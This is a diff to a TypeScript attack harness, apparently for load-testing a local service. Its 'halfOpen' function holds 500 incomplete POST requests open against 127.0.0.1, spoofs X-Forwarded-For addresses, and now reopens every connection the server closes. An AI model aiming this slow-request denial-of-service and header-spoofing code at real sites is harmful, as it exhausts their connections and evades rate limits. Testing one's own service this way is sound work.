@@ -1,5 +1,5 @@
 import { randomBytes } from 'node:crypto'
-import { connect, type Socket } from 'node:net'
+import { connect } from 'node:net'
 import { setTimeout as sleep } from 'node:timers/promises'
 
 /**
@@ -61,14 +61,19 @@ async function flood({ senders, send, pause = 0 }: Attack): Promise<void> {
   await Promise.all(Array.from({ length: senders }, (_, sender) => one(sender)))
 }
 
+/** Opens another for each that the site closes. */
 function halfOpen(): void {
-  const open: Socket[] = []
-  for (let at = 0; at < 500; at++) {
-    const head = `POST /api/v1/decode HTTP/1.1\r\nhost: x\r\nx-forwarded-for: 10.9.${at >> 8}.${at & 255}\r\ncontent-type: application/json\r\ncontent-length: 900\r\n\r\n{`
+  let opened = 0
+  const open = () => {
+    const at = opened++
+    const from = `10.9.${(at >> 8) & 255}.${at & 255}`
+    const head = `POST /api/v1/decode HTTP/1.1\r\nhost: x\r\nx-forwarded-for: ${from}\r\ncontent-type: application/json\r\ncontent-length: 900\r\n\r\n{`
     const socket = connect(Number(port), '127.0.0.1', () => socket.write(head))
     socket.on('error', () => {})
-    open.push(socket.resume())
+    socket.on('close', () => void setTimeout(open, 10))
+    socket.resume()
   }
+  for (let at = 0; at < 500; at++) open()
   console.log('begun')
 }
 
